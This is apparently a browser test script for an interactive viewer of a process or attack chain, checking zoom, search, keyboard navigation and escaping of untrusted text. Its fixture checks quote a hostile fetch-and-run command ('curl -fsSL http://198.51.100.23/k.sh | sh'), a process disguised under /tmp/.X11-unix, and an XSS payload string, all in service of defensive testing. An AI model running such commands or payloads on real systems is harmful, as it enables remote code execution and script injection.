// Drives the page of a chain as a person does and writes into the title how it went. Is put behind the page's own script.
"use strict";
(() => {
  const byId = (id) => document.getElementById(id);
  const failures = [];
  let checks = 0;
  const expect = (what, got, wanted) => {
    ++checks;
    if (got !== wanted) failures.push(`${what}: ${JSON.stringify(got)} instead of ${JSON.stringify(wanted)}`);
  };
  const press = (key, target = document.activeElement) =>
    target.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true, cancelable: true }));
  const svg = document.querySelector("#stage svg");
  const width = () => svg.viewBox.baseVal.width;
  const node = (words) => [...document.querySelectorAll("g.node[role]")].find((g) => g.getAttribute("aria-label").includes(words));
  const type = (text) => {
    byId("search").value = text;
    byId("search").dispatchEvent(new Event("input", { bubbles: true }));
  };
  const matches = () => document.querySelectorAll("g.node.match").length;

  function zoomByKeysButtonsAndWheel() {
    const whole = width();
    press("+", document.body);
    expect("+ shows less", width() < whole, true);
    press("-", document.body);
    expect("- shows as much again", Math.abs(width() - whole) < 1, true);
    byId("zoom-in").click();
    expect("the button shows less", width() < whole, true);
    press("0", document.body);
    expect("0 shows all", width(), whole);
    byId("stage").dispatchEvent(new WheelEvent("wheel", { deltaY: -300, clientX: 300, clientY: 300, cancelable: true }));
    expect("the wheel shows less", width() < whole, true);
    byId("zoom-fit").click();
  }

  function dragging() {
    const [x, vertex] = [svg.viewBox.baseVal.x, node("curl")];
    vertex.dispatchEvent(new PointerEvent("pointerdown", { button: 0, clientX: 500, clientY: 300, bubbles: true }));
    window.dispatchEvent(new PointerEvent("pointermove", { clientX: 400, clientY: 300 }));
    expect("dragging to the left shows what is on the right", svg.viewBox.baseVal.x > x, true);
    window.dispatchEvent(new PointerEvent("pointerup"));
    vertex.dispatchEvent(new MouseEvent("click", { bubbles: true }));
    expect("a drag is no click", byId("details").hidden, true);
    press("0", document.body);
  }

  function searching() {
    press("/", document.body);
    expect("/ goes to the search", document.activeElement.id, "search");
    type("no such thing");
    expect("nothing", byId("found").textContent, "nothing found");
    type("kthreadd");
    expect("found in name, command line and path", matches(), 2);
    expect("the count", byId("found").textContent, "2 found");
    const before = width();
    press("+");
    expect("a key that is typed does not zoom", width(), before);
    press("Enter");
    expect("Enter shows the first", byId("found").textContent, "1 of 2");
    expect("its details", byId("details-name").textContent, "kthreadd");
    press("Enter");
    expect("Enter shows the next", byId("details-name").textContent, "/tmp/.X11-unix/kthreadd");
    press("Escape");
    expect("Escape closes the details first", byId("details").hidden && matches(), 2);
    press("Escape");
    expect("then it ends the search", matches() === 0 && byId("search").value, "");
    type("23097278-2094");
    expect("a field that is not drawn is found as well", matches(), 1);
    type("");
  }

  function goingThroughThePicture() {
    const root = node("php-fpm8.2");
    expect("one stop for Tab", document.querySelectorAll("#stage g[tabindex='0']").length, 1);
    root.focus();
    expect("a name is read out", document.activeElement.getAttribute("aria-label"), "process php-fpm8.2, pid 1880, www-data, php-fpm: pool www; named by a rule");
    press("ArrowRight");
    expect("right goes along the edge", document.activeElement, node("process dash"));
    press("ArrowRight");
    press("ArrowLeft");
    expect("left goes back", document.activeElement, node("process dash"));
    press("Enter");
    expect("Enter shows details", byId("details").hidden, false);
    expect("the command line in full", byId("details").textContent.includes("sh -c curl -fsSL http://198.51.100.23/k.sh | sh"), true);
    expect("a time for people", byId("details").textContent.includes("2024-11-24 23:00:00.000 UTC"), true);
    press("Escape");
    expect("Escape gives the keyboard back", byId("details").hidden && document.activeElement, node("process dash"));
  }

  function clicking() {
    node("198.51.100.23:80").dispatchEvent(new MouseEvent("click", { bubbles: true }));
    expect("a click shows details", byId("details-name").textContent, "198.51.100.23:80");
    document.querySelector("#details ul button").click();
    expect("a neighbour can be gone to", byId("details-name").textContent, "curl");
    document.querySelector("g.edge[role] path").dispatchEvent(new MouseEvent("click", { bubbles: true }));
    expect("an edge has details", byId("details-kind").textContent, "edge; named by a rule");
    byId("close").click();
    expect("the button closes", byId("details").hidden, true);
  }

  // What the chain of the second page says of itself is text and nothing else.
  function hostileTexts() {
    expect("no element comes from a text", document.querySelectorAll("img, iframe, b, script[src]").length, 0);
    expect("no script of a text runs", window.intruder, undefined);
    const evil = '"><script>intruder=1</' + "script>\\N\\L &lt;b&gt;<img src=x onerror=intruder=2>";
    const vertex = document.querySelector("g.node[role]");
    vertex.dispatchEvent(new MouseEvent("click", { bubbles: true }));
    expect("the details show the text as it is", byId("details-name").textContent, evil);
    expect("so does the heading", document.querySelector("h1").textContent.includes(evil), true);
    expect("and the picture", vertex.textContent.includes("&lt;b&gt;"), true);
    expect("still no element", document.querySelectorAll("img, iframe, b, script[src]").length, 0);
  }

  try {
    if (document.title.includes("intruder")) {
      hostileTexts();
    } else {
      zoomByKeysButtonsAndWheel();
      dragging();
      searching();
      goingThroughThePicture();
      clicking();
    }
  } catch (error) {
    failures.push(String(error.stack));
  }
  document.title = failures.length ? `failed: ${failures.join(" | ")}` : `passed ${checks} checks`;
})();
